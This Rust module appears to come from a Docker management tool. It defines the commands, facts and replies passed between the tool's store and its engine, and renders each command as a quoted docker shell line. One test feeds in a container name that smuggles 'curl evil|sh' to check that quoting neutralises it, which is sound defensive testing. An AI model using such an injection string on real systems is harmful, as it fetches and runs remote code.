//! The waist of the hourglass: all that the store and the engine know of each other.

mod change;
mod ending;
mod exec;
mod files;
mod line;
mod log;
mod names;
mod plan;
mod process;
mod upgrade;

use std::sync::Arc;

use serde_json::Value;

pub use self::change::{Change, Commit, Follow};
pub use self::ending::{Ending, Grace};
pub use self::exec::{Exec, Local};
pub use self::files::{Copied, Files, FilesReply};
pub use self::line::{docker_words, on_host, run_line};
pub use self::log::{LogFact, LogPage};
pub use self::names::Names;
pub use self::plan::{Deed, Plan, Step};
pub use self::process::Found;
pub use self::upgrade::Survey;

use crate::model::host::{Check, DiskUse, Forward, Pulse, Verdict};
use crate::model::{
    Attempt, Brief, Container, Event, HostId, HostInfo, Id, Link, Problem, Ref, Sample, Turn,
};
use crate::spec::RunSpec;
use crate::spec::words::quoted;

/// A piece of work in flight, as the person sees it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct JobId(pub u64);

/// What an engine reports without being asked twice.
#[derive(Clone, Debug, PartialEq)]
pub enum Fact {
    /// The connection changed.
    Link(Link),
    /// A place was tried in vain; the search goes on.
    Tried(Attempt),
    /// What the engine says of itself. Comes in parts: what is not known yet is empty.
    Info(Box<HostInfo>),
    /// What a ping told.
    Pulse(Pulse),
    /// What its objects take on disk.
    Disk(DiskUse),
    /// What a step of the doctor found. The first step voids what an earlier visit found.
    Finding(Check, Verdict),
    /// The ports that are forwarded from it now, all of them.
    Forwards(Vec<Forward>),
    /// Every container there is: the first list of a connection.
    Containers(Vec<Container>),
    /// What a later list of all has that is not as it was told.
    Resynced {
        /// The containers that are new, or not as they were told last.
        changed: Vec<Container>,
        /// Those that are no more.
        removed: Vec<Id>,
    },
    /// Some containers, looked at again after their events.
    Changed(Vec<Container>),
    /// Containers that are gone.
    Removed(Vec<Id>),
    /// What an inspect told of a container.
    Brief(Id, Brief),
    /// A second's samples.
    Samples(Vec<(Id, Sample)>),
    /// Why a container's samples do not come. It is asked again; the next sample voids this.
    Unsampled(Id, Problem),
    /// The engine's whole answer to an inspect.
    Inspect(Id, Result<Arc<Value>, Problem>),
    /// A container's processes.
    Processes(Id, Result<Arc<Processes>, Problem>),
    /// What became of an open log.
    Log(Id, LogFact),
    /// A container's life took a turn; a list says it in full soon.
    Turned(Id, Turn),
    /// Something happened.
    Event(Event),
    /// What the engine remembers that happened to a container, oldest first.
    Past(Id, Vec<Event>),
    /// Something is wrong with the connection or a stream, but it goes on: an answer that made no
    /// sense, a stream that broke and is opened again.
    Trouble(Problem),
    /// A task of this program failed; it begins anew.
    Bug(Problem),
}

/// The processes of a container, as `docker top` tells them.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Processes {
    /// Column titles.
    pub titles: Vec<Box<str>>,
    /// A row for each process, a cell for each title.
    pub rows: Vec<Vec<Box<str>>>,
}

/// A stream or table that should be kept fresh. The engine compares the wanted set with what runs.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Watch {
    /// A host's pulse every five seconds, and its disk use every five minutes.
    Host(HostId),
    /// Everything that happens on a host but the noise of execs, and at first what its engine
    /// remembers.
    Events(HostId),
    /// That noise.
    Execs(HostId),
    /// The log of a container, from its newest lines on, across restarts.
    Logs(Ref),
    /// The whole inspect of a container: now, and again after its events.
    Inspect(Ref),
    /// The processes of a container, every two seconds.
    Processes(Ref),
    /// What the engine remembers that happened to a container: once.
    Past(Ref),
    /// A container's samples, one a second.
    Stats(Ref),
    /// A container's [`Brief`]: once, and again after its events.
    Brief(Ref),
}

impl Watch {
    /// The object that is watched; none when it is a host.
    pub fn target(&self) -> Option<&Ref> {
        match self {
            Self::Logs(target)
            | Self::Inspect(target)
            | Self::Processes(target)
            | Self::Past(target)
            | Self::Stats(target)
            | Self::Brief(target) => Some(target),
            Self::Host(_) | Self::Events(_) | Self::Execs(_) => None,
        }
    }

    /// The host that it is on.
    pub fn host(&self) -> &HostId {
        match self {
            Self::Logs(target)
            | Self::Inspect(target)
            | Self::Processes(target)
            | Self::Past(target)
            | Self::Stats(target)
            | Self::Brief(target) => &target.host,
            Self::Host(host) | Self::Events(host) | Self::Execs(host) => host,
        }
    }
}

/// One call that an engine is asked to make.
#[derive(Clone, Debug, PartialEq)]
pub enum Command {
    /// Start a container.
    Start(Id),
    /// Stop a container; killed when it has not ended after the time.
    Stop(Id, Grace),
    /// Stop and start a container.
    Restart(Id, Ending),
    /// Freeze a container.
    Pause(Id),
    /// Thaw a container.
    Unpause(Id),
    /// Send a signal, named without `SIG`.
    Kill(Id, &'static str),
    /// Give a container another name.
    Rename(Id, String),
    /// Remove a container.
    Remove {
        /// Which.
        id: Id,
        /// Even if it runs: it is killed.
        force: bool,
        /// Its anonymous volumes too.
        volumes: bool,
    },
    /// Run the first of some shells that a container has, each a program with its words, and give
    /// it the terminal.
    Shell(Id, Vec<Vec<String>>),
    /// Run a command in a container.
    Exec(Exec),
    /// Find a process of the host's id inside its container: runs a program there.
    FindProcess(Id, u32),
    /// Send a signal, named without `SIG`, to a process inside a container.
    Signal {
        /// The container.
        id: Id,
        /// The process' id inside.
        pid: u32,
        /// When it was started, in the kernel's ticks: another that got its id is left alone.
        start: u64,
        /// The signal.
        signal: &'static str,
    },
    /// Forward a port of a container to this machine's loopback. Changes nothing on the host.
    Forward {
        /// Whose port.
        id: Id,
        /// The port inside the container.
        port: u16,
        /// The port here; none: the same where it is free, else any.
        local: Option<u16>,
    },
    /// End what is forwarded to a port of this machine. Changes nothing on the host.
    Unforward(u16),
    /// Give the terminal to a container's own first process.
    Attach(Id),
    /// Make or change a container. What is done meanwhile comes as [`Notice::Output`].
    Change(Change),
    /// Run a program on this machine; the engine has no part in it.
    Local(Local),
    /// A call about the files in a container.
    Files(Id, Files),
    /// The stopped containers with the bytes of their writable layers. Changes nothing.
    PrunePreview,
    /// How a container was made: an inspect of it and of its image. Changes nothing.
    Describe(Id),
    /// What there is that a form could name. Changes nothing.
    Names,
    /// Log lines older than those held: a page of `count` before `before` (nanoseconds since the
    /// Unix epoch), of a log of which the newest `held` lines are held. Changes nothing.
    OlderLines {
        /// Whose log.
        id: Id,
        /// Time of the oldest line held.
        before: i64,
        /// Lines held.
        held: u64,
        /// Lines wanted.
        count: u64,
    },
}

/// The container that a command is about, by reference or to be set.
macro_rules! target_of {
    ($command:expr, $of:ident $(, $mutable:tt)?) => {
        match $command {
            Command::Start(id)
            | Command::Stop(id, _)
            | Command::Restart(id, _)
            | Command::Pause(id)
            | Command::Unpause(id)
            | Command::Kill(id, _)
            | Command::Rename(id, _)
            | Command::Shell(id, _)
            | Command::Attach(id)
            | Command::Remove { id, .. }
            | Command::FindProcess(id, _)
            | Command::Files(id, _)
            | Command::Signal { id, .. }
            | Command::Forward { id, .. }
            | Command::Describe(id)
            | Command::OlderLines { id, .. } => Some(id),
            Command::Exec(exec) => Some(&$($mutable)? exec.id),
            Command::Change(change) => change.$of(),
            Command::Unforward(_)
            | Command::PrunePreview
            | Command::Local(_)
            | Command::Names => None,
        }
    };
}

impl Command {
    /// The container that it is about; none when it is about all of a host.
    pub fn target(&self) -> Option<&Id> {
        target_of!(self, target)
    }

    /// The same, to be set in a call about what a plan makes.
    pub fn target_mut(&mut self) -> Option<&mut Id> {
        target_of!(self, target_mut, mut)
    }

    /// Whether it is to be given the terminal until it ends.
    pub fn takes_terminal(&self) -> bool {
        match self {
            Self::Shell(..) | Self::Attach(_) => true,
            Self::Exec(exec) => exec.tty,
            Self::Local(local) => local.terminal,
            Self::Change(_)
            | Self::Start(_)
            | Self::Stop(..)
            | Self::Restart(..)
            | Self::Pause(_)
            | Self::Unpause(_)
            | Self::Kill(..)
            | Self::Rename(..)
            | Self::Remove { .. }
            | Self::FindProcess(..)
            | Self::Files(..)
            | Self::Signal { .. }
            | Self::Forward { .. }
            | Self::Unforward(_)
            | Self::PrunePreview
            | Self::Names
            | Self::Describe(_)
            | Self::OlderLines { .. } => false,
        }
    }

    /// Whether its output comes as [`Notice::Output`] while it is under way.
    pub fn has_output(&self) -> bool {
        matches!(self, Self::Exec(_) | Self::Local(_) | Self::Change(_)) && !self.takes_terminal()
    }

    /// Whether it changes anything: then it is refused under `--read-only`.
    pub fn changes(&self) -> bool {
        match self {
            Self::Start(_)
            | Self::Stop(..)
            | Self::Restart(..)
            | Self::Pause(_)
            | Self::Unpause(_)
            | Self::Kill(..)
            | Self::Rename(..)
            | Self::Remove { .. }
            | Self::Shell(..)
            | Self::Attach(_)
            | Self::Exec(_)
            | Self::FindProcess(..)
            | Self::Signal { .. } => true,
            Self::Local(local) => local.changes,
            Self::Files(_, call) => call.changes(),
            Self::Change(change) => change.changes(),
            Self::Forward { .. }
            | Self::Unforward(_)
            | Self::PrunePreview
            | Self::Names
            | Self::Describe(_)
            | Self::OlderLines { .. } => false,
        }
    }

    /// The equal `docker …` line for objects of these names. Every name is quoted where a shell
    /// would read it otherwise: an engine may call its objects anything.
    pub fn docker_line(&self, names: &[&str]) -> String {
        let (words, last) = match self {
            Self::Start(_) => ("start".to_owned(), None),
            Self::Stop(_, grace) => (format!("stop{}", grace.docker_words()), None),
            Self::Restart(_, ending) => (format!("restart{}", ending.docker_words()), None),
            Self::Pause(_) => ("pause".to_owned(), None),
            Self::Unpause(_) => ("unpause".to_owned(), None),
            Self::Kill(_, signal) => (format!("kill -s {signal}"), None),
            Self::Rename(_, new) => ("rename".to_owned(), Some(new.as_str())),
            Self::Remove { force, volumes, .. } => {
                let force = if *force { " -f" } else { "" };
                let volumes = if *volumes { " -v" } else { "" };
                (format!("rm{force}{volumes}"), None)
            }
            Self::Shell(_, shells) => {
                let shell = shells.first().map(|words| words.iter().map(String::as_str));
                let name = names.first().copied().unwrap_or_default();
                let words = ["docker", "exec", "-it", name].into_iter();
                let words = words.chain(shell.into_iter().flatten()).map(quoted);
                return words.collect::<Vec<_>>().join(" ");
            }
            Self::Exec(exec) => {
                return exec.docker_line(names.first().copied().unwrap_or_default());
            }
            Self::Files(_, call) => {
                return call.docker_line(names.first().copied().unwrap_or_default());
            }
            Self::FindProcess(..) => ("top".to_owned(), None),
            Self::Signal { pid, signal, .. } => {
                let names = names.iter().copied().map(quoted);
                let names = names.collect::<Vec<_>>().join(" ");
                return format!("docker exec -u 0 {names} kill -s {signal} {pid}");
            }
            // docker has no word for it
            Self::Forward { port, local, .. } => {
                let local = local.map_or_else(|| "any".to_owned(), |local| local.to_string());
                let name = names.first().copied().unwrap_or_default();
                return format!("# forward 127.0.0.1:{local} to {}:{port}", quoted(name));
            }
            Self::Unforward(local) => return format!("# end the forward of 127.0.0.1:{local}"),
            Self::Attach(_) => ("attach".to_owned(), None),
            Self::Change(change) => {
                return change.docker_line(names.first().copied().unwrap_or_default());
            }
            Self::Local(local) => {
                let words: Vec<String> = local.words.iter().map(|word| quoted(word)).collect();
                return words.join(" ");
            }
            Self::Describe(_) => ("inspect".to_owned(), None),
            Self::Names => {
                return "docker image ls; docker network ls; docker volume ls".to_owned();
            }
            Self::PrunePreview => return "docker ps -as -f status=exited".to_owned(),
            Self::OlderLines { held, count, .. } => (format!("logs -n {}", held + count), None),
        };
        let names = names.iter().copied().chain(last).map(quoted);
        let words = ["docker".to_owned(), words].into_iter().chain(names);
        words.collect::<Vec<_>>().join(" ")
    }
}

/// What a [`Command`] came to.
#[derive(Clone, Debug, PartialEq)]
pub enum Reply {
    /// Done.
    Done,
    /// Nothing had to be done: it was so already.
    Already,
    /// What a call about files came to.
    Files(FilesReply),
    /// Where the process of an id on the host is inside its container.
    Process(u32, Found),
    /// The port of this machine at which a container's port is now.
    Forwarded(u16),
    /// The stopped containers and the bytes of their writable layers.
    Prunable(Vec<(Id, u64)>),
    /// How a container was made.
    Described(Box<RunSpec>),
    /// What there is on the engine.
    Names(Box<Names>),
    /// Older log lines, oldest first; none when there are no older ones.
    Lines(Vec<LogPage>),
    /// What ran in a container ended.
    Exited {
        /// What ran.
        command: Vec<String>,
        /// Its exit code.
        code: i64,
    },
    /// What runs in a container was left: it runs on, without the terminal.
    Detached,
    /// A container was made.
    Made(Id),
    /// Limits were changed; what of it the engine did not take.
    Updated(Vec<String>),
    /// What an upgrade would mean.
    Surveyed(Box<Survey>),
}

/// Which connecting of a host a fact is of: a host that is disconnected and connected again begins
/// another, so that what the former one still had under way is not taken for news.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Era(pub u64);

/// What the engine sends to the loop.
#[derive(Clone, Debug, PartialEq)]
pub enum Notice {
    /// A host reports, in one of its eras.
    Fact(HostId, Era, Fact),
    /// How far a job's copy is.
    Progress {
        /// The job.
        job: JobId,
        /// Bytes that went by.
        done: u64,
        /// How many there will be; 0 while that is not known.
        total: u64,
    },
    /// A step of a plan began.
    Begun(JobId, usize),
    /// What a job started runs, and asks for the terminal: it is lent or withheld.
    Asks(JobId),
    /// A step of a plan was undone, or could not be: which of its deeds, and what it came to.
    Undone {
        /// The job.
        job: JobId,
        /// The step.
        step: usize,
        /// Which of the deeds that undo it.
        deed: usize,
        /// What it came to.
        result: Result<(), Problem>,
    },
    /// A step of a job ended. Of a plan none is begun after one that failed, and that one is told
    /// when all that could be was undone.
    Done {
        /// The job.
        job: JobId,
        /// Which of its steps.
        step: usize,
        /// What it came to.
        result: Result<Reply, Problem>,
    },
    /// What a job's command wrote, in order.
    Output(JobId, LogPage),
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;

    #[test]
    fn a_line_says_its_host_unless_docker_goes_there_by_itself() {
        use crate::model::host::Source;
        use crate::model::{Candidate, HostSpec, Origin};
        let spec = |origin, source, place: &str| {
            let problem = Problem::new(crate::model::ProblemKind::Unsupported, "", "");
            let candidate = Candidate {
                source,
                place: place.to_owned(),
                address: Err(problem),
            };
            HostSpec::new(HostId::new("h"), origin, vec![candidate])
        };
        let context = Origin::Context { current: false };
        let far = spec(context, Source::Context("far".into()), "tcp://far:1");
        let local = spec(Origin::Local, Source::Usual("Docker"), "unix:///d.sock");
        let odd = spec(Origin::Given, Source::Given, "ssh://a;b");
        let line = "docker stop web";
        let said = |spec: &HostSpec| on_host(&docker_words(spec), line);
        assert_eq!(said(&far), "docker --context far stop web");
        assert_eq!(said(&local), "docker --context default stop web");
        assert_eq!(said(&odd), "docker -H 'ssh://a;b' stop web");
        let default = HostSpec {
            is_default: true,
            ..far
        };
        assert_eq!(said(&default), line);
    }

    #[test]
    fn every_command_knows_its_words() {
        let id = Id::new("0123456789abcdef");
        let cases = [
            (Command::Start(id.clone()), "docker start web"),
            (
                Command::Stop(id.clone(), Grace::For(Duration::from_secs(10))),
                "docker stop -t 10 web",
            ),
            (
                Command::Restart(id.clone(), Grace::For(Duration::from_secs(3)).into()),
                "docker restart -t 3 web",
            ),
            (
                Command::Restart(
                    id.clone(),
                    Ending {
                        grace: Grace::Endless,
                        signal: Some("INT".into()),
                    },
                ),
                "docker restart -s INT -t -1 web",
            ),
            (Command::Kill(id.clone(), "TERM"), "docker kill -s TERM web"),
            (
                Command::Rename(id.clone(), "new name".into()),
                "docker rename web 'new name'",
            ),
            (
                Command::Remove {
                    id: id.clone(),
                    force: true,
                    volumes: true,
                },
                "docker rm -f -v web",
            ),
        ];
        let exec = Exec {
            id: id.clone(),
            command: ["sh", "-c", "echo $A"].map(str::to_owned).to_vec(),
            user: "1000".into(),
            directory: "/srv".into(),
            env: vec!["A=b c".into()],
            tty: true,
            privileged: true,
        };
        let line = "docker exec -e 'A=b c' -u 1000 -w /srv -it --privileged web sh -c 'echo $A'";
        assert_eq!(Command::Exec(exec).docker_line(&["web"]), line);
        let hostile = Command::Pause(Id::new("x")).docker_line(&["x;curl evil|sh"]);
        assert_eq!(hostile, "docker pause 'x;curl evil|sh'");
        for (command, line) in cases {
            assert_eq!(command.docker_line(&["web"]), line);
        }
    }
}
